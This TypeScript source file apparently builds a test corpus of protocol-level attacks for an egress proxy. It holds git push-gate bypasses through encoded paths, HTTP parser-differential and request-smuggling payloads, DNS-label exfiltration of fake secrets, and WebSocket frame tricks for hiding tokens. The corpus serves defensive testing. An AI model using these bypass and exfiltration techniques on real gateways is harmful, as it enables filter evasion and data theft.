/**
 * Protocol-level attacks: pushing around the git gate through a Basic-auth git route whose server
 * percent-decodes paths, parser differentials (duplicate Host / Content-Encoding / Content-Type,
 * `..;/` paths, CONNECT to port 80, unframed bodies smuggling a second request), data in host-name
 * labels of a wildcard route, and WebSocket frames (control frames, RSV1, windows).
 *
 * `{port}` in a URL, header value or text body is replaced by the stand-in's port at replay time.
 */
import { createHash } from 'node:crypto';
import { API, GIT, INTERNAL, NOPORT, PATHS, WILD, WS } from './hosts.js';
import { attacks, bin, get, json, post, type Headers } from './build.js';
import { B62, HEX, b64, base32, fake, gzip, hex, knownSecretFor, pieces, rng } from './gen.js';
import type { CorpusCase, RequestSpec, WsFrameSpec } from './types.js';

const r = (id: string) => rng(`attack:${id}`);

// ---------- git: push around the gate ----------

const REPO = '/acme/widget.git';
const GIT_UA: Headers = [['user-agent', 'git/2.43.0'], ['git-protocol', 'version=2']];

function pkt(line: string): string {
  return (line.length + 4).toString(16).padStart(4, '0') + line;
}

/** A receive-pack request: one ref update and an empty pack. */
function receivePackBody(id: string): Buffer {
  const sha = createHash('sha1').update(id).digest('hex');
  const head = pkt(`${'0'.repeat(40)} ${sha} refs/heads/main\u0000 report-status side-band-64k agent=git/2.43.0\n`) + '0000';
  const pack = Buffer.concat([Buffer.from('PACK'), Buffer.from([0, 0, 0, 2, 0, 0, 0, 0])]);
  return Buffer.concat([Buffer.from(head, 'latin1'), pack, createHash('sha1').update(pack).digest()]);
}

const gp = attacks('git-push-bypass');
const pushPost = (id: string, path: string): RequestSpec =>
  post(GIT, path, bin(receivePackBody(id)), 'application/x-git-receive-pack-request', [['accept', 'application/x-git-receive-pack-result'], ...GIT_UA]);

const GIT_PUSH: CorpusCase[] = [
  gp('git-push-pct2d-01', 'path', 'POST …/git%2Dreceive-pack (server decodes %2D)', { request: pushPost('git-push-pct2d-01', `${REPO}/git%2Dreceive-pack`) }),
  gp('git-push-pct6b-02', 'path', 'POST …/git-receive-pac%6b', { request: pushPost('git-push-pct6b-02', `${REPO}/git-receive-pac%6b`) }),
  gp('git-push-pct2dlower-03', 'path', 'POST …/git%2dreceive%2dpack (lower-case escapes)', { request: pushPost('git-push-pct2dlower-03', `${REPO}/git%2dreceive%2dpack`) }),
  gp('git-push-double-04', 'path', 'POST …/git%252Dreceive-pack (double-encoded; decoded to a fixed point)', { request: pushPost('git-push-double-04', `${REPO}/git%252Dreceive-pack`) }),
  gp('git-push-svcrepeat-05', 'query', 'GET info/refs?service=git-upload-pack&service=git-receive-pack (egress reads the first, git the last)', {
    request: get(GIT, `${REPO}/info/refs?service=git-upload-pack&service=git-receive-pack`, GIT_UA),
  }),
  gp('git-push-svcpct-06', 'query', 'GET info/refs?service=git%2Dreceive%2Dpack', { request: get(GIT, `${REPO}/info/refs?service=git%2Dreceive%2Dpack`, GIT_UA) }),
  gp('git-push-matrix-07', 'path', 'POST …/git-receive-pack;x=1 (servers drop ;parameters)', { request: pushPost('git-push-matrix-07', `${REPO}/git-receive-pack;x=1`) }),
  gp('git-push-dotsemi-08', 'path', 'POST …/objects/..;/git-receive-pack', { request: pushPost('git-push-dotsemi-08', `${REPO}/objects/..;/git-receive-pack`) }),
  gp('git-push-encslash-09', 'path', 'POST /acme/widget.git%2Fgit-receive-pack (encoded slash)', { request: pushPost('git-push-encslash-09', `/acme/widget.git%2Fgit-receive-pack`) }),
  gp('git-push-trailing-10', 'path', 'POST …/git-receive-pack/ (trailing slash; servers clean the path)', { request: pushPost('git-push-trailing-10', `${REPO}/git-receive-pack/`) }),
  gp('git-push-inforefs-11', 'path', 'GET …/info%2Frefs?service=git-receive-pack (encoded slash hides info/refs)', { request: get(GIT, `/acme/widget.git/info%2Frefs?service=git-receive-pack`, GIT_UA) }),
  gp('git-push-svcrev-12', 'query', 'GET info/refs?service=git-receive-pack&service=git-upload-pack (repeated service)', {
    request: get(GIT, `${REPO}/info/refs?service=git-receive-pack&service=git-upload-pack`, GIT_UA),
  }),
  gp('git-push-plain-13', 'path', 'POST …/git-receive-pack as git sends it (baseline)', { request: pushPost('git-push-plain-13', `${REPO}/git-receive-pack`) }),
  gp('git-push-ctype-14', 'body', 'receive-pack body with its content type, POSTed to a path that hides the service (…/git-%72eceive-pack)', { request: pushPost('git-push-ctype-14', `${REPO}/git-%72eceive-pack`) }),
];

// ---------- parser differentials ----------

const pd = attacks('parser-differential');
const ghpFor = (id: string) => fake.github(r(id));

const PARSER: CorpusCase[] = [
  pd('parse-duphost-01', 'header', 'second Host header naming a host no route allows', {
    request: { method: 'GET', url: `https://${API}/v1/x`, headers: [['host', `${API}:{port}`], ['host', INTERNAL]] },
  }),
  pd('parse-duphost-02', 'header', 'second Host header on the path-restricted route', {
    request: { method: 'GET', url: `https://${PATHS}/v1/allowed/x`, headers: [['host', `${PATHS}:{port}`], ['host', `${INTERNAL}:{port}`]] },
  }),
  pd('parse-dupce-03', 'body', 'Content-Encoding: identity then Content-Encoding: gzip; gzipped token', {
    request: post(API, '/v1/x', bin(gzip(`t=${ghpFor('parse-dupce-03')}`)), 'text/plain', [['content-encoding', 'identity'], ['content-encoding', 'gzip']]),
  }),
  pd('parse-celist-04', 'body', 'Content-Encoding: identity, gzip (one header, a list); gzipped token', {
    request: post(API, '/v1/x', bin(gzip(`t=${ghpFor('parse-celist-04')}`)), 'text/plain', [['content-encoding', 'identity, gzip']]),
  }),
  pd('parse-doublegzip-05', 'body', 'Content-Encoding: gzip over gzip(gzip(token)) — a second layer without a header', {
    request: post(API, '/v1/x', bin(gzip(gzip(`t=${ghpFor('parse-doublegzip-05')}`))), 'text/plain', [['content-encoding', 'gzip']]),
  }),
  pd('parse-dupct-06', 'body', 'Content-Type text/plain then application/json; JSON-escaped token', {
    request: { method: 'POST', url: `https://${API}/v1/x`, headers: [['content-type', 'text/plain'], ['content-type', 'application/json']], body: `{"t":"${[...ghpFor('parse-dupct-06')].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')}"}` },
  }),
  pd('parse-dupcl-07', 'header', 'two identical Content-Length headers', {
    request: { method: 'POST', url: `https://${API}/v1/x`, headers: [['content-type', 'text/plain'], ['content-length', '5'], ['content-length', '5']], body: 'hello', rawFraming: true },
  }),
  pd('parse-clte-08', 'header', 'Content-Length and Transfer-Encoding: chunked together', {
    request: { method: 'POST', url: `https://${API}/v1/x`, headers: [['content-type', 'text/plain'], ['content-length', '4'], ['transfer-encoding', 'chunked']], body: '5\r\nhello\r\n0\r\n\r\n', rawFraming: true },
  }),
  pd('parse-dotsemi-09', 'path', '/v1/allowed/..;/admin passes a prefix match; ;-dropping servers resolve it outside', { request: get(PATHS, '/v1/allowed/..;/admin') }),
  pd('parse-dotsemi-10', 'path', '/v1/allowed/%2e%2e;/admin', { request: get(PATHS, '/v1/allowed/%2e%2e;/admin') }),
  pd('parse-dots2x-11', 'path', '/v1/allowed/%252e%252e/admin (double-encoded dot segment)', { request: get(PATHS, '/v1/allowed/%252e%252e/admin') }),
  pd('parse-dotsemi-12', 'path', '/v1/allowed/.;/..;/admin', { request: get(PATHS, '/v1/allowed/.;/..;/admin') }),
  pd('parse-connect80-13', 'host', 'CONNECT to port 80 of a route without a port (must mean 443 only)', { request: { mode: 'connect', method: 'CONNECT', url: `https://${NOPORT}:80/` } }),
  pd('parse-http443-14', 'host', 'absolute-form http:// to port 443 of a route without a port (must mean 80 only)', { request: { mode: 'absolute', method: 'GET', url: `http://${NOPORT}:443/x` } }),
  pd('parse-smuggle-get-15', 'body', 'oversized chunked body on a GET (streamed): sent unframed, the upstream parses a second request', {
    proxy: 'stream',
    judge: 'smuggle',
    markers: ['/v1/smuggled-parse-smuggle-get-15'],
    request: {
      method: 'GET',
      url: `https://${API}/v1/allowed-looking`,
      headers: [['content-type', 'text/plain']],
      chunked: { size: 512 },
      body: `GET /v1/smuggled-parse-smuggle-get-15 HTTP/1.1\r\nHost: ${API}:{port}\r\nx-corpus-case: parse-smuggle-get-15\r\nx-pad: ${'a'.repeat(1400)}\r\n\r\n`,
    },
  }),
  pd('parse-smuggle-delete-16', 'body', 'oversized chunked body on a DELETE (streamed): sent unframed, the upstream parses a second request', {
    proxy: 'stream',
    judge: 'smuggle',
    markers: ['/v1/smuggled-parse-smuggle-delete-16'],
    request: {
      method: 'DELETE',
      url: `https://${API}/v1/items/1`,
      headers: [['content-type', 'text/plain']],
      chunked: { size: 700 },
      body: `GET /v1/smuggled-parse-smuggle-delete-16 HTTP/1.1\r\nHost: ${API}:{port}\r\nx-corpus-case: parse-smuggle-delete-16\r\nx-pad: ${'b'.repeat(1400)}\r\n\r\n`,
    },
  }),
  pd('parse-trailer-17', 'header', 'token in a chunked-body trailer', {
    judge: 'no-leak',
    markers: [ghpFor('parse-trailer-17')],
    request: { method: 'POST', url: `https://${API}/v1/x`, headers: [['content-type', 'text/plain'], ['trailer', 'x-checksum']], body: 'hello world', chunked: { size: 4, trailers: [['x-checksum', ghpFor('parse-trailer-17')]] } },
  }),
  pd('parse-hdrname-18', 'header', 'token as a header NAME', { request: get(API, '/v1/x', [[`x-${ghpFor('parse-hdrname-18')}`, '1']]) }),
  pd('parse-obsfold-19', 'header', 'token on an obs-fold continuation line of a header', {
    request: { method: 'GET', url: `https://${API}/v1/x`, headers: [['x-note', `hello\r\n ${ghpFor('parse-obsfold-19')}`]] },
  }),
  pd('parse-fragment-20', 'path', 'token in a #fragment of the request target', { request: get(API, `/v1/x#${ghpFor('parse-fragment-20')}`) }),
  pd('parse-absmismatch-21', 'header', 'absolute-form target naming another host inside the tunnel (baseline)', {
    request: { method: 'GET', url: `https://${API}/v1/x`, target: `https://${INTERNAL}/v1/x` },
  }),
  // Fuzz regression (test/egress/fuzz-parse.test.ts): `host..` normalised to `host.`, which a second pass turned into `host`.
  pd('parse-hostdots-22', 'host', 'CONNECT to a routed name with two trailing dots (an empty label)', { request: { mode: 'connect', method: 'CONNECT', url: `https://${API}..` } }),
  pd('parse-hostdots-23', 'header', 'Host header naming the tunnel host with two trailing dots', { request: get(API, '/v1/x', [['host', `${API}..:{port}`]]) }),
];

// ---------- data in host-name labels (wildcard route) ----------

const hl = attacks('dns-exfil');
const host = (labels: string) => `https://${labels}.${WILD}`;

function labelCase(id: string, description: string, labels: string, extra: Partial<CorpusCase> = {}): CorpusCase {
  return hl(id, 'host', description, { request: { method: 'GET', url: `${host(labels)}/pixel.gif` }, ...extra });
}

const DNS: CorpusCase[] = [
  (() => {
    const id = 'dns-hex-known-01';
    const s = knownSecretFor(id);
    const h = hex(s);
    return labelCase(id, 'hex of a known secret over two labels', `${h.slice(0, 40)}.${h.slice(40)}`, { knownSecret: s });
  })(),
  (() => {
    const id = 'dns-b32-known-02';
    const s = knownSecretFor(id);
    const b = base32(Buffer.from(s), false).toLowerCase();
    return labelCase(id, 'base32 (lower-case) of a known secret over two labels', `${b.slice(0, 32)}.${b.slice(32)}`, { knownSecret: s });
  })(),
  labelCase('dns-aws-03', 'AWS key id as a label (lower-cased by host normalisation)', `${fake.awsKeyId(r('dns-aws-03')).toLowerCase()}.cdn`),
  labelCase('dns-aws-mixed-04', 'AWS key id in mixed case (DLP misses it once lower-cased)', `${fake.awsKeyId(r('dns-aws-mixed-04')).replace(/[A-Z]/g, (c, i: number) => (i % 2 ? c.toLowerCase() : c))}.x`),
  labelCase('dns-random63-05', '63-character base36 label of encoded data', r('dns-random63-05').chars(HEX + 'ghijklmnopqrstuvwxyz', 63)),
  labelCase('dns-deep-06', 'six labels of 10 hex characters (depth)', pieces(r('dns-deep-06').chars(HEX, 60), 10).join('.')),
  (() => {
    const id = 'dns-many-07';
    const data = hex(fake.stripe(r(id)));
    return hl(id, 'host', 'many unique subdomains in a window: a Stripe key in 12 hex chunks, one name per request', {
      leakRule: 'all-steps',
      // Its own egress: the window it fills (unique random subdomains of corpus.test) would
      // otherwise refuse the benign CloudFront/API-Gateway-style names replayed after it.
      proxy: 'isolated',
      steps: pieces(data, Math.ceil(data.length / 12)).map((p, i) => ({ method: 'GET', url: `${host(`${i.toString(36)}${p}`)}/p.gif` })),
    });
  })(),
  labelCase('dns-hexstripe-08', 'hex of a Stripe key prefix over three labels', pieces(hex(fake.stripe(r('dns-hexstripe-08')).slice(0, 60)), 40).join('.')),
  labelCase('dns-b32slack-09', 'base32 of a Slack token over labels', pieces(base32(Buffer.from(fake.slackBot(r('dns-b32slack-09'))), false).toLowerCase(), 50).join('.')),
  (() => {
    const id = 'dns-known-rev-11';
    const s = knownSecretFor(id);
    const b = base32(Buffer.from([...s].reverse().join('')), false).toLowerCase();
    return labelCase(id, 'base32 of the reversed known secret over two labels', `${b.slice(0, 32)}.${b.slice(32)}`, { knownSecret: s });
  })(),
  labelCase('dns-card-12', 'card number digits as a label', `${fake.card(r('dns-card-12'), '5', 16)}.pay`),
  labelCase('dns-b32ghp-13', 'base32 of a GitHub token over labels', pieces(base32(Buffer.from(fake.github(r('dns-b32ghp-13'))), false).toLowerCase(), 32).join('.')),
  labelCase('dns-b32json-10', 'base32 of a small JSON record with an AWS key id', pieces(base32(Buffer.from(json({ k: fake.awsKeyId(r('dns-b32json-10')), u: 'ci' })), false).toLowerCase(), 56).join('.')),
];

// ---------- WebSocket frames ----------

const wf = attacks('websocket');
const WS_URL = `https://${WS}/socket`;
const text = (payload: string, extra: Partial<WsFrameSpec> = {}): WsFrameSpec => ({ opcode: 1, payload, ...extra });
const closePayload = (code: number, reason: string) => {
  const b = Buffer.alloc(2);
  b.writeUInt16BE(code);
  return { base64: Buffer.concat([b, Buffer.from(reason)]).toString('base64') };
};

const WSC: CorpusCase[] = [
  (() => {
    const id = 'ws-known-raw-01';
    const s = knownSecretFor(id);
    return wf(id, 'ws-frame', 'known secret in a text frame (baseline)', { knownSecret: s, markers: [s], ws: { url: WS_URL, frames: [text(json({ type: 'msg', body: s }))] } });
  })(),
  (() => {
    const t = fake.github(r('ws-ghp-02'));
    return wf('ws-ghp-02', 'ws-frame', 'GitHub token in a text frame (baseline)', { markers: [t], ws: { url: WS_URL, frames: [text(`token ${t}`)] } });
  })(),
  (() => {
    const t = fake.github(r('ws-ping-03'));
    return wf('ws-ping-03', 'ws-frame', 'GitHub token in a ping payload', { markers: [t], ws: { url: WS_URL, frames: [text('hello'), { opcode: 9, payload: t }] } });
  })(),
  (() => {
    const t = fake.awsKeyId(r('ws-pong-04'));
    return wf('ws-pong-04', 'ws-frame', 'AWS key id in an unsolicited pong payload', { markers: [t], ws: { url: WS_URL, frames: [{ opcode: 10, payload: t }] } });
  })(),
  (() => {
    const t = fake.npm(r('ws-close-05'));
    return wf('ws-close-05', 'ws-frame', 'npm token in the close-frame reason', { markers: [t], ws: { url: WS_URL, frames: [text('bye'), { opcode: 8, payload: closePayload(1000, t) }] } });
  })(),
  (() => {
    const t = fake.github(r('ws-rsv1-06'));
    return wf('ws-rsv1-06', 'ws-frame', 'RSV1 frame with a deflated token (compression never negotiated)', { markers: [t], ws: { url: WS_URL, frames: [text(`token=${t}`, { deflate: true })] } });
  })(),
  (() => {
    const id = 'ws-window-07';
    const s = knownSecretFor(id);
    const half = Math.floor(s.length / 2);
    const filler = (i: number) => text(json({ type: 'log', seq: i, line: 'x'.repeat(1500) }));
    return wf(id, 'ws-frame', 'known secret halves in frames separated by more than the scan window', {
      knownSecret: s,
      markers: [s.slice(0, half), s.slice(half)],
      ws: { url: WS_URL, frames: [text(`a=${s.slice(0, half)}`), filler(1), filler(2), filler(3), filler(4), text(`b=${s.slice(half)}`)] },
    });
  })(),
  (() => {
    const t = fake.github(r('ws-b64bin-08'));
    return wf('ws-b64bin-08', 'ws-frame', 'base64 of a token in a binary frame', { markers: [b64(t)], ws: { url: WS_URL, frames: [{ opcode: 2, payload: { base64: Buffer.from(b64(t)).toString('base64') } }] } });
  })(),
  (() => {
    const t = fake.stripe(r('ws-cont-09'));
    const ps = pieces(t, 8);
    return wf('ws-cont-09', 'ws-frame', 'token in 8-character pieces over continuation frames of one message', {
      markers: ps,
      ws: { url: WS_URL, frames: ps.map((p, i) => ({ opcode: i === 0 ? 1 : 0, payload: p, fin: i === ps.length - 1 })) },
    });
  })(),
  (() => {
    const t = fake.github(r('ws-hex-10'));
    return wf('ws-hex-10', 'ws-frame', 'hex of a GitHub token in a text frame', { markers: [hex(t)], ws: { url: WS_URL, frames: [text(json({ op: 'put', v: hex(t) }))] } });
  })(),
  (() => {
    const card = fake.card(r('ws-card-11'), '4', 16);
    return wf('ws-card-11', 'ws-frame', 'card number in a JSON text frame', { markers: [card], ws: { url: WS_URL, frames: [text(json({ op: 'pay', card, exp: '10/28' }))] } });
  })(),
  (() => {
    const v = r('ws-kw-12').chars(B62, 24);
    return wf('ws-kw-12', 'ws-frame', 'keyword assignment (password=) in a text frame', { markers: [v], ws: { url: WS_URL, frames: [text(`DB_PASSWORD=${v}`)] } });
  })(),
  (() => {
    const id = 'ws-known-b32-13';
    const s = knownSecretFor(id);
    const b = base32(Buffer.from(s));
    return wf(id, 'ws-frame', 'base32 of a known secret in a binary frame', { knownSecret: s, markers: [b], ws: { url: WS_URL, frames: [{ opcode: 2, payload: { base64: Buffer.from(b).toString('base64') } }] } });
  })(),
];

export const PROTOCOL_ATTACKS: readonly CorpusCase[] = [...GIT_PUSH, ...PARSER, ...DNS, ...WSC];

